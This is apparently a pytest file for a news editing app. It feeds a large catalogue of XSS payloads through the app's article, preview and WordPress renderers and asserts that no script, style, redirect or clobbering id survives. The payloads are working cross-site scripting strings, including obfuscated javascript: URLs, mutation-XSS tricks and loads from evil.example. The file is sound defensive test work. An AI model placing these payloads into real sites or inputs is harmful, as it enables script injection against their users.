"""The XSS catalogue: what an author (or a pasted press release) could put in a story, and proof that
nothing of it reaches a reader's browser as script, style, redirect or a page-clobbering id.

Assertions read the output as a browser would (tests/render/html_check.py): every element, every
attribute, URLs unescaped and stripped of the whitespace and control characters browsers ignore.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from editor_app.domain.bylines import Byline, BylineRole
from editor_app.domain.stories import Dateline
from editor_app.render.article import Link, render_article_page, render_preview_html
from editor_app.render.figures import BodyMarkup
from editor_app.render.markdown_html import body_html
from editor_app.render.markup import PageMarkup, QtMarkup
from editor_app.render.wordpress_content import RemoteMedia, WordPressMarkup, wordpress_content
from tests.render.html_check import parse, problems, scheme
from tests.render.samples import INLINE, PAPER, media_src, story

EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle",
          "onpointerenter", "onbegin", "onbeforeprint", "onhashchange", "onmessage", "onpageshow", "onscroll",
          "onwheel", "oninput", "onchange", "onsubmit", "onkeydown", "ontransitionend", "onauxclick",
          "oncontextmenu", "ondrag", "oncopy", "onpaste", "onresize", "onunload", "OnErRoR", "onfocusin"]

BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "jav&#9;ascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097vascript:alert(1)", "javascript&colon;alert(1)", "java\x00script:alert(1)",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)", "mocha:alert(1)", "file:///etc/passwd", "image:1",
]

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="behavior: url(x.htc); position: fixed; top: 0">overlay</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><input name="q" onfocus="alert(1)" autofocus>'
    '<button formaction="javascript:alert(1)">Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>',
    '<img src="https://ok.example/a.png" onerror="alert(1)" style="width:100%">',
    '<img src=x onerror=alert(1)//',
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    '<a href="https://ok.example/"title="x"onmouseover=alert(1)>gap</a>',
    '<h2 id="location">clobber</h2><p id="config" name="config">clobber</p><form id="forms"></form>',
    '<img name="getElementById" id="cookie" src="https://ok.example/a.png">',
    '<div markdown="1" onclick="alert(1)">\n\n**raw block**\n\n</div>',
    '<table><tr><td background="javascript:alert(1)" onmouseover="alert(1)">cell</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<a href="#" xmlns:xlink="http://www.w3.org/1999/xlink" is="x-evil">x</a>',
    '<template><script>alert(1)</script></template>',
    '<xss><script>alert(1)</script></xss>',
]

MARKDOWN_PAYLOADS = [
    '![a" onerror="alert(1)](photos/IMG_0001.jpg "t\\" onload=\\"alert(1)")',
    "![x\" onerror=\"alert(1)](https://ok.example/x.png \"a' onload='alert(1)\")",
    "![x](https://ok.example/x.png\"onerror=\"alert(1))",
    "[x](https://ok.example/ \"title\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "Footnote[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'Label[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
    "# <img src=x onerror=alert(1)> heading",
    "## Heading {: onclick=alert(1) }",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe src=javascript:alert(1)>",
    "* <a href='javascript:alert(1)'>item</a>\n* [item](javascript:alert(1))",
    "    <script>alert(1)</script>  (code block)",
    "`<script>alert(1)</script>` (code span)",
]


def link_payloads(url: str) -> list[str]:
    return [f"[link]({url})", f"![image]({url})", f"[ref][r]\n\n[r]: {url}", f"<a href=\"{url}\">raw link</a>",
            f'<img src="{url}" alt="raw image">', f"<a href='{url}'>single</a>",
            f"<a href={url.replace(' ', '')}>bare</a>"]


# Unclosed elements whose content is raw text to a browser too: the rest of the body goes with them.
SWALLOW_THE_REST = {"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                    "> <iframe src=javascript:alert(1)>"}

CATALOGUE = HTML_PAYLOADS + MARKDOWN_PAYLOADS + [p for url in BAD_URLS for p in link_payloads(url)]

HOSTILE_PHOTO = replace(INLINE, caption='"><script>alert(1)</script>', credit="<img src=x onerror=alert(1)>",
                        alt='" onerror="alert(1)')
MEDIA = RemoteMedia(55, "https://paper.example/wp-content/uploads/a.jpg")

MARKUPS: dict[str, BodyMarkup] = {
    "page": PageMarkup(media_src),
    "qt": QtMarkup(lambda photo: f"image:{photo.image_id}"),
    "wordpress": WordPressMarkup(lambda photo: MEDIA),
}


def render(payload: str, flavour: str) -> str:
    body = f"Before.\n\n{payload}\n\nAfter ![inline](photos/IMG_0001.jpg) text.\n\n![photo](photos/IMG_0001.jpg)\n"
    return body_html(body, markup=MARKUPS[flavour], photos=[HOSTILE_PHOTO], dateline='A<b onclick="x">B —')


@pytest.mark.parametrize("flavour", sorted(MARKUPS))
@pytest.mark.parametrize("payload", CATALOGUE)
def test_payload_is_harmless(payload: str, flavour: str) -> None:
    html = render(payload, flavour)
    assert problems(html, image_schemes=frozenset({"image"}) if flavour == "qt" else frozenset()) == []
    text = parse(html).text
    assert "Before." in text, "the text before the payload survives"
    assert ("After" in text) is (payload not in SWALLOW_THE_REST), "the text after the payload survives"


def test_the_checker_catches_what_it_should() -> None:
    """The catalogue's assertions are only worth something if they fail on unsafe HTML."""
    unsafe = ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" JaVaScRiPt:alert(1)">x</a>',
              '<img src="data:image/png;base64,AA">', '<p onclick="x">x</p>', '<p style="color:red">x</p>',
              "<script>x</script>", '<h2 id="config">x</h2>', '<meta http-equiv="refresh" content="0">',
              '<a href="&#106;avascript:x">x</a>', '<iframe srcdoc="x"></iframe>', "<svg></svg>"]
    for html in unsafe:
        assert problems(html), html
    assert problems('<a href="https://ok.example/" rel="noopener">x</a><h2 id="h-x">x</h2><sup id="fn:1">1</sup>') == []


@pytest.mark.parametrize("url", BAD_URLS)
def test_no_forbidden_scheme_survives_in_links_or_images(url: str) -> None:
    html = body_html(f"[link]({url}) ![pic]({url}) <a href=\"{url}\">raw</a>", markup=MARKUPS["page"])
    document = parse(html)
    assert [a.attrs["href"] for a in document.find("a") if scheme(a.attrs.get("href", "")) not in ("", "http")] == []
    assert [img.attrs["src"] for img in document.find("img") if "src" in img.attrs] == []
    assert "link" in document.text and "raw" in document.text


def test_data_links_are_dropped_but_web_and_mail_links_kept() -> None:
    document = parse(body_html("[a](data:text/html;base64,PHNjcmlwdD4=) [b](https://ok.example/x) "
                               "[c](mailto:desk@paper.example) [d](#h-section) [e](/2026/10/story/)",
                               markup=MARKUPS["page"]))
    assert [a.attrs.get("href") for a in document.find("a")] == [
        None, "https://ok.example/x", "mailto:desk@paper.example", "#h-section", "/2026/10/story/"]


def test_hostile_photo_texts_are_escaped_not_dropped() -> None:
    """Captions and alt text come from the photo desk: shown as text, never as markup."""
    for flavour in MARKUPS:
        document = parse(render("", flavour))
        captions = [e.text for e in document.elements if e.tag == "figcaption" or e.attrs.get("class") == "figcaption"]
        assert captions == ['"><script>alert(1)</script> (<img src=x onerror=alert(1)>)'], flavour
        assert {img.attrs["alt"] for img in document.find("img")} == {'" onerror="alert(1)'}, flavour


def test_ids_are_only_those_the_extensions_make() -> None:
    html = body_html('<h2 id="location">a</h2><p id="cookie">b</p>\n\n## Real heading\n\nText[^n]\n\n[^n]: Note.',
                     markup=MARKUPS["page"])
    assert parse(html).ids() == {"h-real-heading", "fnref:n", "fn:n"}


def test_whole_page_with_hostile_story_fields() -> None:
    """Headline, deck, section, bylines, dateline, cities and links are text on every page."""
    evil = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
    hostile = story(headline=evil, deck=evil, section=evil, cities=(evil, "Baku"),
                    bylines=(Byline(evil), Byline(evil, BylineRole.SPECIAL), Byline(evil, BylineRole.PHOTOGRAPHER)),
                    dateline=Dateline(evil, evil), body=HTML_PAYLOADS[0] + "\n\n" + MARKDOWN_PAYLOADS[0],
                    photos=(replace(story().photos[0], caption=evil, credit=evil, alt=evil), HOSTILE_PHOTO))
    page = render_article_page(hostile, paper=PAPER, image_src=media_src, city_href=lambda c: "cities/x.html",
                               previous=Link(evil, "a.html"), next_link=Link(evil, "b.html"))
    preview = render_preview_html(hostile, paper=PAPER, image_src=lambda p: f"image:{p.image_id}")
    content = wordpress_content(hostile, paper=PAPER, media=lambda p: MEDIA)
    for html in (page, preview):
        assert problems(html, allowed_tags=frozenset({"style", "meta", "title"}),
                        image_schemes=frozenset({"image"})) == []
        document = parse(html)
        assert len(document.find("style")) == 1 and len(document.find("title")) == 1
        assert all(set(m.attrs) <= {"charset", "name", "content"} for m in document.find("meta"))
        assert evil in document.text
    assert problems(content) == []
    assert evil in parse(content).text
